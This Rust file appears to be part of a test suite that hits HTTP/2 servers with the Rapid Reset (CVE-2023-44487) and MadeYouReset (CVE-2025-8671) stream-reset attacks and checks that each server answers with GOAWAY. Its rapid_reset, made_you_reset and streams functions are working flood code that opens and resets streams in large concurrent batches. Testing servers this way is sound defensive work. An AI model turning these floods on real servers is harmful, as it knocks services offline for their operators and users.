//! Streams that are opened to be reset at once: handlers begin, and nobody waits for them.

use crate::arena::Arena;
use crate::case::{CALMED, Case, USUAL};
use crate::connection::Over;
use crate::frames::{UNARY, code, data, reset, stream, whole_call, window_update};

pub(crate) const CASES: &[Case] = &[
    Case {
        name: "rapid-reset",
        attack_text: "opens streams and resets each at once (CVE-2023-44487)",
        expected_text: "GOAWAY ENHANCE_YOUR_CALM once the resets that are allowed are used up",
        expected: CALMED,
        attack: |arena| Box::pin(rapid_reset(arena)),
        ..USUAL
    },
    Case {
        name: "made-you-reset-window",
        attack_text: "makes the server reset each stream by a window that overflows (CVE-2025-8671)",
        expected_text: "GOAWAY ENHANCE_YOUR_CALM after 100 streams that the server had to reset",
        expected: CALMED,
        attack: |arena| Box::pin(made_you_reset(arena, |stream| window_update(stream, WIDEST))),
        ..USUAL
    },
    Case {
        name: "made-you-reset-data",
        attack_text: "makes the server reset each stream by DATA after its end (CVE-2025-8671)",
        expected_text: "the same, or GOAWAY STREAM_CLOSED at once",
        expected: crate::case::CUT_OFF,
        attack: |arena| Box::pin(made_you_reset(arena, |stream| data(stream, b"late"))),
        ..USUAL
    },
    Case {
        name: "made-you-reset-zero",
        attack_text: "makes the server reset each stream by a WINDOW_UPDATE of zero (CVE-2025-8671)",
        expected_text: "the same, or GOAWAY PROTOCOL_ERROR at once",
        expected: crate::case::CUT_OFF,
        attack: |arena| Box::pin(made_you_reset(arena, |stream| window_update(stream, 0))),
        ..USUAL
    },
];

/// The widest window there is: on top of any other it overflows.
const WIDEST: u32 = u32::MAX >> 1;

/// Streams per write.
const BATCH: u32 = 50;

/// Opens streams with a whole call and takes each back at once. The server lets a few go, then
/// says GOAWAY `ENHANCE_YOUR_CALM` and closes.
async fn rapid_reset(arena: Arena) {
    let cancelled = |stream| [whole_call(stream, UNARY, &[]), reset(stream, code::CANCEL)].concat();
    arena.swarm(4, move |arena| streams(arena, cancelled)).await;
}

/// Opens streams with a whole call and makes the server reset each. After a hundred of its own
/// resets, or at once where the fault is one of the connection, it says GOAWAY and closes.
async fn made_you_reset(arena: Arena, fault: fn(u32) -> Vec<u8>) {
    let provoked = move |stream| [whole_call(stream, UNARY, &[]), fault(stream)].concat();
    arena.swarm(4, move |arena| streams(arena, provoked)).await;
}

async fn streams(arena: Arena, of: impl Fn(u32) -> Vec<u8>) -> Result<(), Over> {
    let mut connection = arena.hello(&[]).await?;
    for batch in 0..u32::MAX / BATCH {
        let numbers = batch * BATCH..(batch + 1) * BATCH;
        let frames: Vec<u8> = numbers.flat_map(|number| of(stream(number))).collect();
        connection.send(&frames).await?;
        tokio::task::yield_now().await;
    }
    Ok(())
}
